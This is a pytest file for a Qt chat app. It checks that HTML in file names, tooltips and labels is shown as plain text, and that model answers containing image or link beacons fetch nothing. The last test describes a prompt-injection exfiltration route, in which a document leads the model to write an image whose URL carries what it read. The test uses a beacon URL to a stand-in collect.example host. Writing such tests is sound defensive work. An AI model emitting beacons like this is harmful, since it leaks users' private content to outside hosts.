"""Words that strangers chose reach the window as words: in tips, lists, labels and answers."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtGui import QTextDocument
from PySide6.QtWidgets import QApplication, QLabel
from pytestqt.qtbot import QtBot

from app.ui.chat.blocks import SafeDocument
from app.ui.chat.links import LinkCard
from app.ui.chat.markdown import blocks_of
from app.ui.knowledge.files import FilesModel
from app.ui.theme.style import Theme
from app.ui.viewmodels.folder_words import FileRow
from app.ui.widgets.labels import Elided
from app.ui.widgets.tips import plain_tip
from tests.ui.chat_rig import Rig, conversation, rig
from tests.ui.window_rig import links_opened

pytestmark = pytest.mark.qt_log_ignore("This plugin does not support")

EVIL = '<img src="//files.example/share/x.png"> & <b>Report</b>\nof <i>May</i>'
BEACON = "https://collect.example/?q=the+secret+of+the+paper"


@pytest.fixture
def chat(qapp: QApplication, tmp_path: Path) -> Iterator[Rig]:
    with rig(qapp, tmp_path) as made:
        made.window.show()
        yield made


class Loader(QTextDocument):
    """Reads a tip as Qt's own tip does, and remembers what it would have fetched."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[object] = []

    def loadResource(self, _type: int, name: object) -> object:
        self.asked.append(name)
        return None


def fetched(text: str) -> list[object]:
    """What Qt asks for when it lays this page out."""
    page = Loader()
    page.setHtml(text)
    page.setTextWidth(300)
    assert page.size().height() > 0
    return page.asked


def test_a_tip_says_its_letters_and_fetches_nothing(qapp: QApplication) -> None:
    assert fetched(EVIL), "the check itself must notice a page that loads"
    tip = plain_tip(EVIL)
    assert fetched(tip) == []
    page = QTextDocument()
    page.setHtml(tip)
    assert page.toPlainText() == EVIL
    assert plain_tip("Report of May") == "Report of May"


def test_a_cut_label_tells_the_rest_in_plain_letters(qtbot: QtBot) -> None:
    label = Elided(EVIL)
    qtbot.addWidget(label)
    label.resize(40, 20)
    label.show()
    assert label.textFormat() == Qt.TextFormat.PlainText
    assert fetched(label.toolTip()) == []
    assert "Report" in label.toolTip()


def test_names_of_files_are_words_in_their_table(qapp: QApplication) -> None:
    model = FilesModel(Theme(qapp, "light"), qapp)
    model.rows = [FileRow("f", EVIL, "PDF", "3", "Read", "good", EVIL)]
    tip = model.data(model.index(0, 0), Qt.ItemDataRole.ToolTipRole)
    assert fetched(str(tip)) == []


def test_an_answer_with_a_beacon_in_it_fetches_nothing(
    chat: Rig, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The classic way out: a document makes the model write a picture whose address carries what it read."""
    opened = links_opened(monkeypatch)
    asked: list[object] = []
    monkeypatch.setattr(SafeDocument, "loadResource", lambda _self, _type, name: asked.append(name))
    answer = f"![x]({BEACON})\n\n<img src='{BEACON}'>\n\n[source]({BEACON})"
    chat.vm.open(conversation(chat.core, [("Sum it up", answer)]).id)
    qtbot.waitUntil(lambda: len(chat.vm.turns.rows) == 2)
    body = chat.transcript.views[1].body
    assert "<img" not in "".join(block.html for block in blocks_of(answer))
    assert asked == [] and opened == []
    spots = [QPoint(x, y) for y in range(4, body.height(), 6) for x in (8, 20)]
    (spot,) = [s for s in spots if body.link_at(s.toPointF()) == BEACON][-1:]
    qtbot.mouseClick(body, Qt.MouseButton.LeftButton, pos=spot)
    (card,) = chat.area.findChildren(LinkCard)
    assert opened == [], "a click shows the address, it does not follow it"
    shown = card.findChild(QLabel, "link-address")
    assert shown is not None and shown.text().replace("\u200b", "") == BEACON
    card.close()
    assert opened == []
